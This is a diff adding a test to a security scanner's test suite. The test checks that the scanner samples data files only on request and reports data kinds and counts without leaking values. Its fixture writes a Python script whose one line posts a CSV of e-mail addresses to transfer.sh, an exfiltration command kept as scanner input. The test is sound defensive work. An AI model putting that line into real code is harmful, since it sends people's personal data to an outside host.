@@ -55,6 +55,35 @@ describe('sentinel scan', () => {
     assert.ok(worst?.analysis.weaknesses.some(({ severity }) => severity === 'high' || severity === 'critical'));
   });
 
+  it('looks into data files only when it is asked to, and lets kinds and counts out only', () => {
+    const data = mkdtempSync(join(tmpdir(), 'sentinel-scan-data-'));
+    writeFileSync(join(data, 'people.csv'), 'e-mail;n\nada@example.org;1\n');
+    writeFileSync(
+      join(data, 'send.py'),
+      "import requests\nrequests.post('https://transfer.sh/a', data=open('people.csv').read())\n",
+    );
+    const [plain, asked] = [[], ['--sample-data']].map((more) => {
+      const result = sentinel('scan', '--root', data, '--format', 'json', ...more);
+      assert.equal(result.status, 0, result.stderr);
+      return ScanReport.parse(JSON.parse(result.stdout));
+    });
+    const told = (report: ScanReport | undefined) => [
+      report?.dataSample?.files.map(({ path, kinds }) => [path, kinds.map(({ kind, count }) => [kind, count])]),
+      report?.assessments.flatMap(({ analysis }) => analysis.flows.map(({ source: { labels } }) => labels)),
+    ];
+    assert.deepEqual(told(plain), [undefined, [undefined]]);
+    assert.deepEqual(told(asked), [[[join(data, 'people.csv'), [['email', 1]]]], [['email']]]);
+    assert.ok((asked?.assessments[0]?.risk.score ?? 0) > (plain?.assessments[0]?.risk.score ?? 0));
+    for (const format of ['html', 'csv']) {
+      const { stdout } = sentinel('scan', '--root', data, '--format', format, '--out', '-', '--sample-data');
+      assert.match(stdout, /email/);
+      assert.doesNotMatch(stdout, /ada@example/);
+    }
+    const analysed = sentinel('analyse', join(data, 'send.py'), '--sample-data', '--fail-on', 'never');
+    assert.match(analysed.stdout, /data file .*people\.csv {2}email 1/);
+    rmSync(data, { recursive: true, force: true });
+  });
+
   it('prints events as lines of JSON', () => {
     const result = sentinel('scan', '--root', tree, '--no-analysis', '--json');
     const events = result.stdout
